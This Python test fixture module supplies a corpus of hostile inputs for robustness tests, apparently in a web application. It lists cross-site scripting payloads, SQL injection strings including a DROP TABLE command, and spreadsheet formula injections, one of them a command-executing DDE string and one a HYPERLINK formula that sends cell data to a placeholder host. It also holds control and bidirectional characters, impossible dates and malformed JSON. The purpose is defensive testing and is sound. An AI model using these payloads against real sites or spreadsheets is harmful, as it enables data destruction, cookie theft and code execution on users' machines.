"""A corpus of hostile and broken input, shared by every test in tests/hostile/.

Each entry is (label, value). Labels name the attack so a failing test says which one broke.
Everything here is synthetic.
"""

import json

# Script injection: must render as text, never as live markup.
SCRIPT = [
    ("script-tag", "<script>alert('sh')</script>"),
    ("img-onerror", '"><img src=x onerror=alert(1)>'),
    ("javascript-url", "javascript:alert(document.cookie)"),
    ("svg-onload", "<svg/onload=alert(1)>"),
    ("attribute-break", "' autofocus onfocus='alert(1)"),
    ("template-tags", "{{ request.user }}{% now 'Y' %}"),
]

# SQL metacharacters: must be matched literally in searches and stored as typed.
SQL = [
    ("or-1-1", "' OR 1=1 --"),
    ("percent", "%"),
    ("underscore", "_"),
    ("backslash", "\\"),
    ("semicolon", "; DROP TABLE people_person; --"),
    ("double-quote", '"'),
]

# Spreadsheet formula injection: must reach CSV/XLSX as inert text.
FORMULA = [
    ("hyperlink", '=HYPERLINK("http://example.invalid/?x="&A1,"click")'),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3"),
    ("at", "@SUM(1,2)"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
]

# Control characters, NUL, bidirectional overrides: stripped or made harmless.
RLO = "\u202e"
CONTROL = [
    ("bell-escape", "Ro\x07sa\x1b[31m"),
    ("right-to-left-override", f"Ro{RLO}asor\u202c"),
    ("rtl-isolate", "\u2067Rosa\u2069"),
    ("zero-width", "R\u200bo\u200ds\ufeffa"),
    ("delete", "Rosa\x7f"),
]
NUL = ("nul", "Ro\x00sa")

LONG = [
    ("long-100k", "A" * 100_000),
    ("long-multibyte", "\U0001f600" * 5000),
]

# Text fields take all of these; the NUL one is expected to be refused with a message.
TEXT = SCRIPT + SQL + FORMULA + CONTROL + [NUL]
ALL = TEXT + LONG

# Impossible or absurd dates, as a browser would post them.
BAD_DATES = [
    ("feb-30", "2021-02-30"),
    ("year-0", "0000-01-01"),
    ("far-future", "99999-12-31"),
    ("month-13", "2024-13-01"),
    ("not-a-date", "yesterday'--"),
    ("nul-date", "2024-01-\x0001"),
]
BAD_DATETIMES = [
    ("feb-30", "2021-02-30T10:00"),
    ("year-0", "0000-01-01T10:00"),
    ("far-future", "99999-12-31T10:00"),
    ("hour-25", "2024-01-01T25:00"),
]

# Query-string attacks (anything a search box or parameter may receive).
QUERY = [SCRIPT[0][1], SCRIPT[1][1]] + [v for _, v in SQL[:5]] + [
    "\x00", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"), RLO, "A" * 5000,
]
PAGES = ["0", "-1", "1e3", "99999999999999999999999", "1 OR 1=1", "\x00", "1.5"]


def is_formula(text: str) -> bool:
    """Return whether a spreadsheet would treat this cell text as a formula."""
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------ broken files

def latin1(text: str) -> bytes:
    return text.encode("latin-1")


def utf16(text: str) -> bytes:
    return text.encode("utf-16")  # with its BOM


def truncated(document: dict) -> bytes:
    raw = json.dumps(document).encode()
    return raw[: len(raw) // 2]


def deeply_nested(depth: int = 100_000) -> bytes:
    return b"[" * depth + b"]" * depth


BROKEN_JSON = [
    ("empty", b""),
    ("not-json", b"this is not json"),
    ("nul-bytes", b"\x00\x00\x00"),
    ("html", b"<html><script>alert(1)</script></html>"),
    ("array-of-numbers", b"[1, 2, 3]"),
    ("string", b'"Questionnaire"'),
    ("nan", b'{"resourceType": NaN}'),
    ("deeply-nested", deeply_nested()),
    ("binary", bytes(range(256))),
]
